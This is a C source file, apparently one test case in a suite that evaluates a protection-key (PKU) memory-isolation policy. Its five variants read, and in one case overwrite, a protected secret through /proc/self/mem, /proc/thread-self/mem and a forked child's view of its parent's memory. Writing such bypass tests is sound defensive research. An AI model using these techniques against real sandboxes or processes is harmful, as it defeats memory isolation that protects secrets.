/* B1: the process's memory as a file, which asks no protection key. Through one's own
 * name, the thread's, and a child's view of its parent: a new one's, that the policy
 * holds for, and that of one which is older than the policy.
 *
 * Source: [PKU Pitfalls], [proc_pid_mem(5)].
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include "attack.h"

static void read_through(const char *path) {
    unsigned char bytes[SECRET_BYTES];
    int fd = (int)TRY("openat", open(path, O_RDONLY | O_CLOEXEC));
    ssize_t count = TRY("pread64", pread(fd, bytes, sizeof bytes, (off_t)target.secret));
    attack_hand_in(bytes, (size_t)count);
}

static void self(void) { read_through("/proc/self/mem"); }
static void thread_self(void) { read_through("/proc/thread-self/mem"); }

static void self_write(void) {
    static const char bytes[SECRET_BYTES] = "written by /proc/self/mem";
    int fd = (int)TRY("openat", open("/proc/self/mem", O_RDWR | O_CLOEXEC));
    TRY("pwrite64", pwrite(fd, bytes, sizeof bytes, (off_t)target.secret));
}

static void child(void) {
    char path[32];
    snprintf(path, sizeof path, "/proc/%d/mem", getpid());
    /* By the system call: libc's fork would run the runtime's handlers. */
    pid_t pid = (pid_t)TRY("fork", syscall(SYS_fork));
    if (!pid) {
        read_through(path);
        syscall(SYS_exit_group, 0);
    }
    TRY("wait4", waitpid(pid, NULL, 0));
}

static int order[2], done[2];

static void older(void) {
    char path[32], byte;
    snprintf(path, sizeof path, "/proc/%d/mem", getpid());
    TRY("pipe2", pipe2(order, 0));
    TRY("pipe2", pipe2(done, 0));
    pid_t pid = (pid_t)TRY("fork", syscall(SYS_fork));
    if (pid) return;
    /* The secret's address comes by pipe: target is the parent's. */
    if (read(order[0], (void *)&target.secret, sizeof target.secret) > 0) read_through(path);
    byte = (char)write(done[1], "", 1);
    syscall(SYS_exit_group, byte != 1);
}

static void order_older(void) {
    char byte;
    TRY("write", write(order[1], (void *)&target.secret, sizeof target.secret));
    TRY("read", read(done[0], &byte, 1));
}

const struct attack attacks[] = {
    {.variant = "self", .attack = self},
    {.variant = "thread-self", .attack = thread_self},
    {.variant = "child", .attack = child},
    {.variant = "older-child", .prepare = older, .attack = order_older},
    {.variant = "self-write", .attack = self_write},
    {0},
};
